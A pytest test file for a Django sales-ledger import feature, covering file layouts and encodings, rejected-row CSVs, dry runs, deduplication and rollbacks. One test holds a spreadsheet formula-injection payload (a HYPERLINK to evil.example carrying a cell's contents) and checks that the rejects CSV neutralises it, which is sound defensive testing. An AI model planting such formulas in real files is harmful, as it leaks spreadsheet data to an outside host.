"""Ledger files in every accepted layout import exactly; re-imports, dry runs and rollbacks."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError

from accounts.models import Account
from sales.importing.sources import CANONICAL_COLUMNS
from sales.models import DailySales, ImportBatch, MonthlySales, ProductLine, SalesLine
from sales.services import import_batch_rollback, import_batch_run
from tests.sales.ledger_files import (
    create_batch,
    import_file,
    import_path,
    ledger_snapshot,
    write_file,
    write_xlsx,
)
from tests.sales.rollup_sums import assert_rollups_match_lines

pytestmark = pytest.mark.django_db

HEADER = "account_external_id,date,amount"


def done(batch: ImportBatch) -> ImportBatch:
    assert batch.status == ImportBatch.Status.DONE, (batch.message, batch.errors)
    assert batch.errors == [] or batch.rejected
    return batch


def lines() -> list[tuple]:
    return sorted(
        SalesLine.objects.values_list(
            "account__external_id", "date", "amount", "quantity", "margin", "external_id"
        )
    )


def test_semicolons_with_decimal_commas(tmp_path, kam, account):
    batch = done(
        import_file(
            tmp_path,
            "account_external_id;date;amount;quantity;margin\n"
            "00017;2024-03-01;1 234,56;2,5;-12,5\n"
            "00017;2024-03-02;-0,99;;\n",
            by=kam,
        )
    )
    assert (batch.rows, batch.inserted) == (2, 2)
    assert lines() == [
        ("00017", dt.date(2024, 3, 1), Decimal("1234.56"), Decimal("2.5"), Decimal("-12.5"), None),
        ("00017", dt.date(2024, 3, 2), Decimal("-0.99"), None, None, None),
    ]
    month = MonthlySales.objects.get()
    assert (month.revenue, month.margin, month.margin_lines) == (Decimal("1233.57"), Decimal("-12.50"), 1)
    assert_rollups_match_lines()


def test_a_byte_order_mark_is_not_part_of_the_first_column(tmp_path, kam, account):
    done(import_file(tmp_path, f"\ufeff{HEADER}\n00017,2024-03-01,5.00\n", by=kam))
    assert lines() == [("00017", dt.date(2024, 3, 1), Decimal("5.00"), None, None, None)]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
def test_utf16_and_utf32_files_with_their_byte_order_mark(tmp_path, kam, account, encoding):
    content = f"{HEADER},account_name\n00017,2024-03-01,5.00,Müller\n"
    codec = "utf-32" if encoding == "utf-32" else "utf-16"  # always written with the mark
    batch = done(import_file(tmp_path, content.encode(codec), by=kam, encoding=encoding))
    assert batch.inserted == 1


def test_a_stated_date_format(tmp_path, kam, account):
    done(
        import_file(
            tmp_path,
            f"{HEADER}\n00017,01.03.2024,5.00\n00017,31.12.2024,6.00\n",
            by=kam,
            date_format="%d.%m.%Y",
        )
    )
    assert [line[1] for line in lines()] == [dt.date(2024, 3, 1), dt.date(2024, 12, 31)]


def test_an_iso_date_with_a_time_of_day_imports_as_its_day(tmp_path, kam, account):
    done(
        import_file(
            tmp_path,
            f"{HEADER}\n00017,2024-03-01 14:05,5.00\n00017,2024-12-31T08:26:00,6.00\n",
            by=kam,
        )
    )
    assert [line[1] for line in lines()] == [dt.date(2024, 3, 1), dt.date(2024, 12, 31)]


def test_a_column_mapping_reads_another_layout(tmp_path, kam, account):
    mapping = {"account_external_id": "Kunde", "date": "Datum", "amount": "Betrag", "sku": "Artikel"}
    done(
        import_file(
            tmp_path, "Kunde;Datum;Betrag;Artikel\n00017;2024-03-01;7,10;A-1\n", by=kam, mapping=mapping
        )
    )
    line = SalesLine.objects.get()
    assert (line.account, line.amount, line.sku) == (account, Decimal("7.10"), "A-1")


def test_an_xlsx_with_date_cells_and_numbers(tmp_path, kam, account):
    path = write_xlsx(
        tmp_path,
        [
            ["account_external_id", "date", "amount", "margin", "product_line", "line_external_id"],
            ["00017", dt.date(2024, 3, 1), 12.5, 2, "PIPES", "0001"],
            ["00017", dt.datetime(2024, 3, 31, 17, 45), -3, None, None, "0002"],
            ["000042", "2024-04-01", 0, None, "PIPES", "0003"],
            [None, None, None, None, None, None],  # an empty row is skipped
        ],
    )
    batch = done(import_path(path, by=kam))
    assert (batch.rows, batch.inserted, batch.accounts_created) == (3, 3, 1)
    assert lines() == [
        ("000042", dt.date(2024, 4, 1), Decimal("0.00"), None, None, "0003"),
        ("00017", dt.date(2024, 3, 1), Decimal("12.50"), None, Decimal("2.00"), "0001"),
        ("00017", dt.date(2024, 3, 31), Decimal("-3.00"), None, None, "0002"),
    ]
    assert list(ProductLine.objects.values_list("code", flat=True)) == ["PIPES"]
    assert_rollups_match_lines()


def test_an_xlsx_with_date_cells_and_a_date_format_for_its_text_dates(tmp_path, kam, account):
    path = write_xlsx(
        tmp_path,
        [
            ["account_external_id", "date", "amount"],
            ["00017", dt.date(2024, 3, 1), 5],
            ["00017", "02.03.2024", 6],
        ],
    )
    done(import_path(path, by=kam, date_format="%d.%m.%Y"))
    assert [line[1] for line in lines()] == [dt.date(2024, 3, 1), dt.date(2024, 3, 2)]


def test_leading_zeros_of_external_ids_are_kept(tmp_path, kam, account):
    batch = done(
        import_file(
            tmp_path,
            "account_external_id,account_name,date,amount,line_external_id,sku\n"
            "00017,,2024-03-01,5.00,000123,007\n"
            "000042,Vega Motors,2024-03-01,6.00,0124,0\n",
            by=kam,
        )
    )
    assert batch.accounts_created == 1
    new = Account.objects.get(external_id="000042")
    assert (new.name, new.path, new.department) == ("Vega Motors", f"/{new.pk}/", kam.departments.get())
    assert account.sales_lines.get().external_id == "000123"
    assert sorted(SalesLine.objects.values_list("sku", flat=True)) == ["0", "007"]


def test_zero_and_negative_amounts_are_kept(tmp_path, kam, account):
    done(
        import_file(
            tmp_path, f"{HEADER}\n00017,2024-03-01,0\n00017,2024-03-02,-50.00\n00017,2024-03-02,+20\n", by=kam
        )
    )
    assert [line[2] for line in lines()] == [Decimal("0.00"), Decimal("-50.00"), Decimal("20.00")]
    month = MonthlySales.objects.get()
    assert (month.revenue, month.line_count, month.purchase_dates) == (Decimal("-30.00"), 3, 2)
    assert DailySales.objects.get(date=dt.date(2024, 3, 1)).revenue == Decimal("0.00")
    assert_rollups_match_lines()


def test_skip_invalid_imports_the_good_rows_and_writes_the_bad_ones_to_a_csv(tmp_path, kam, account):
    batch = done(
        import_file(
            tmp_path,
            "account_external_id,date,amount,line_external_id\n"
            "00017,2024-03-01,5.00,A\n"
            "00017,2024-02-30,6.00,B\n"
            "00017,2024-03-03,7.00,A\n"
            "NEW-1,2024-03-04,8.00,C\n"
            "00017,2024-03-05,9.00,D\n",
            by=kam,
            skip_invalid=True,
            create_accounts=False,
        )
    )
    assert (batch.rows, batch.inserted, batch.rejected, batch.error_count) == (5, 2, 3, 3)
    assert [line[5] for line in lines()] == ["A", "D"]
    assert not Account.objects.filter(external_id="NEW-1").exists()
    assert sorted((e["row"], e["column"]) for e in batch.errors) == [
        (3, "date"),
        (4, "line_external_id"),
        (5, "account_external_id"),
    ]
    with batch.rejects.open("r") as handle:
        header, *rejected = list(csv.reader(handle))
    assert header == ["row", "reason", *CANONICAL_COLUMNS]
    by_row = {row[0]: dict(zip(header, row, strict=True)) for row in rejected}
    assert sorted(by_row) == ["3", "4", "5"]
    assert by_row["3"]["reason"] == "date: Not a date in the format YYYY-MM-DD."
    assert (by_row["3"]["account_external_id"], by_row["3"]["date"], by_row["3"]["amount"]) == (
        "00017",
        "2024-02-30",
        "6.00",
    )
    assert by_row["4"]["reason"] == "line_external_id: The line id A already appears in row 2 of this file."
    assert by_row["5"]["reason"].startswith("account_external_id: No account has the external id NEW-1")
    assert_rollups_match_lines()


def test_the_rejects_csv_neutralises_formulas_and_keeps_negative_amounts(tmp_path, kam, account):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    content = io.StringIO()
    writer = csv.writer(content)
    writer.writerow(["account_external_id", "date", "amount", "account_name"])
    writer.writerow(["00017", "2024-03-01", "5.00", "Nordic Steel"])
    writer.writerow(["NEW-1", "2024-02-30", "-12.50", name])
    batch = done(import_file(tmp_path, content.getvalue(), by=kam, skip_invalid=True))

    with batch.rejects.open("r") as handle:
        (rejected,) = list(csv.DictReader(handle))
    assert rejected["account_name"] == "'" + name  # shows as typed, never runs
    assert rejected["amount"] == "-12.50"  # still a number to a spreadsheet
    assert rejected["date"] == "2024-02-30"


def test_the_rejects_csv_keeps_the_values_of_rows_refused_by_whole_file_checks(tmp_path, kam, account):
    batch = done(
        import_file(
            tmp_path,
            f"{HEADER},line_external_id\n00017,2024-03-01,5.00,A\n00017,2024-03-03,7.00,A\nNEW-1,2024-03-04,8.00,C\n",
            by=kam,
            skip_invalid=True,
            create_accounts=False,
        )
    )
    with batch.rejects.open("r") as handle:
        _header, *rejected = list(csv.reader(handle))
    values = [(row[0], *row[2:5], row[9]) for row in rejected]
    assert sorted(values) == [
        ("3", "00017", "2024-03-03", "7.00", "A"),
        ("4", "NEW-1", "2024-03-04", "8.00", "C"),
    ]


def test_a_dry_run_counts_everything_and_writes_nothing(tmp_path, kam, account):
    before = ledger_snapshot()
    content = f"{HEADER},product_line\n00017,2024-03-01,5.00,PIPES\nNEW-1,2024-03-02,6.00,\n"
    batch = import_file(tmp_path, content, by=kam, dry_run=True)
    assert batch.status == ImportBatch.Status.CHECKED
    assert batch.message == "Dry run: nothing was written."
    assert (batch.rows, batch.inserted, batch.duplicates, batch.accounts_created) == (2, 2, 0, 1)
    assert ledger_snapshot() == before
    # A checked file is not "already imported": the real run goes through.
    assert done(import_file(tmp_path, content, by=kam)).inserted == 2


def test_importing_the_same_lines_again_inserts_nothing_and_counts_duplicates(tmp_path, kam, account):
    content = f"{HEADER},line_external_id\n00017,2024-03-01,5.00,A\n00017,2024-03-02,6.00,B\n"
    first = done(import_file(tmp_path, content, by=kam))
    after_first = ledger_snapshot()

    again = done(import_file(tmp_path, content, by=kam))
    assert (again.rows, again.inserted, again.duplicates) == (2, 0, 2)
    assert ledger_snapshot() == after_first

    more = done(import_file(tmp_path, content + "00017,2024-04-01,7.00,C\n", by=kam))
    assert (more.inserted, more.duplicates) == (1, 2)
    assert first.lines.count() == 2 and more.lines.count() == 1
    assert_rollups_match_lines()


def test_a_file_without_line_ids_is_refused_the_second_time_unless_forced(tmp_path, kam, account):
    path = write_file(tmp_path, f"{HEADER}\n00017,2024-03-01,5.00\n00017,2024-03-02,6.00\n")
    first = done(import_path(path, by=kam))
    before = ledger_snapshot()

    again = import_path(path, by=kam)
    assert again.status == ImportBatch.Status.REFUSED
    assert again.message.startswith(f"This file was already imported (import #{first.pk} on ")
    assert "would count every line twice" in again.message
    assert again.errors == [{"row": None, "column": "", "value": "", "reason": again.message}]
    assert ledger_snapshot() == before

    forced = done(import_path(path, by=kam, force=True))
    assert forced.inserted == 2
    assert MonthlySales.objects.get().revenue == Decimal("22.00")
    assert_rollups_match_lines()


def test_a_mixed_file_is_refused_the_second_time_for_its_rows_without_line_ids(tmp_path, kam, account):
    # Once let through because some rows had line ids: the rows without were inserted again.
    path = write_file(
        tmp_path,
        f"{HEADER},line_external_id\n"
        "00017,2024-03-01,5.00,INV-1\n00017,2024-03-02,6.00,\n00017,2024-03-03,7.00,\n",
    )
    first = done(import_path(path, by=kam))
    assert first.inserted == 3
    before = ledger_snapshot()

    again = import_path(path, by=kam)
    assert again.status == ImportBatch.Status.REFUSED
    assert again.message.startswith(f"This file was already imported (import #{first.pk} on ")
    assert "2 rows have no line id to tell them apart" in again.message
    assert "Give every row a line id" in again.message
    assert ledger_snapshot() == before

    forced = done(import_path(path, by=kam, force=True))
    assert (forced.inserted, forced.duplicates) == (2, 1)  # what forcing it means, and no more
    assert MonthlySales.objects.get().revenue == Decimal("31.00")
    assert_rollups_match_lines()


def test_a_file_whose_every_row_has_a_line_id_is_deduplicated_not_refused(tmp_path, kam, account):
    path = write_file(tmp_path, f"{HEADER},line_external_id\n00017,2024-03-01,5.00,INV-1\n")
    done(import_path(path, by=kam))
    again = done(import_path(path, by=kam))
    assert (again.inserted, again.duplicates) == (0, 1)


def test_a_rolled_back_file_without_line_ids_can_be_imported_again(tmp_path, kam, account):
    path = write_file(tmp_path, f"{HEADER}\n00017,2024-03-01,5.00\n")
    import_batch_rollback(batch=done(import_path(path, by=kam)), by=kam)
    assert done(import_path(path, by=kam)).inserted == 1


def test_a_rollback_takes_out_the_lines_and_their_rollups(tmp_path, kam, account):
    first = done(
        import_file(
            tmp_path,
            f"{HEADER},margin,product_line\n00017,2024-03-01,5.00,1.00,PIPES\n"
            "00017,2024-03-09,6.00,,\nNEW-1,2024-05-01,9.00,,\n",
            by=kam,
        )
    )
    second = done(import_file(tmp_path, f"{HEADER},margin\n00017,2024-03-01,7.00,2.50\n", by=kam))

    rolled = import_batch_rollback(batch=first, by=kam)
    assert rolled.status == ImportBatch.Status.ROLLED_BACK
    assert (rolled.rolled_back_by, rolled.rolled_back_at is not None) == (kam, True)
    assert list(SalesLine.objects.values_list("batch", flat=True)) == [second.pk]
    assert_rollups_match_lines()
    month = MonthlySales.objects.get()
    assert (month.revenue, month.margin, month.margin_lines, month.product_line) == (
        Decimal("7.00"),
        Decimal("2.50"),
        1,
        None,
    )
    assert list(DailySales.objects.values_list("date", "revenue")) == [(dt.date(2024, 3, 1), Decimal("7.00"))]

    import_batch_rollback(batch=second, by=kam)
    assert not SalesLine.objects.exists()
    assert not MonthlySales.objects.exists() and not DailySales.objects.exists()


@pytest.mark.parametrize("state", ["pending", "refused", "checked", "rolled_back"])
def test_only_a_completed_import_can_be_rolled_back(tmp_path, kam, account, state):
    good = f"{HEADER}\n00017,2024-03-01,5.00\n"
    if state == "pending":
        batch = create_batch(write_file(tmp_path, good), by=kam)
    elif state == "refused":
        batch = import_file(tmp_path, f"{HEADER}\n00017,2024-03-01,x\n", by=kam)
    elif state == "checked":
        batch = import_file(tmp_path, good, by=kam, dry_run=True)
    else:
        batch = import_batch_rollback(batch=done(import_file(tmp_path, good, by=kam)), by=kam)
    assert batch.status == state
    before = ledger_snapshot()
    with pytest.raises(ValidationError) as raised:
        import_batch_rollback(batch=batch, by=kam)
    assert raised.value.messages[0].startswith("Only a completed import can be rolled back; this one is ")
    batch.refresh_from_db()
    assert batch.status == state
    assert ledger_snapshot() == before


def test_running_a_finished_batch_again_changes_nothing(tmp_path, kam, account):
    batch = done(import_file(tmp_path, f"{HEADER}\n00017,2024-03-01,5.00\n", by=kam))
    before = ledger_snapshot()
    assert import_batch_run(batch=batch).status == ImportBatch.Status.DONE
    assert ledger_snapshot() == before
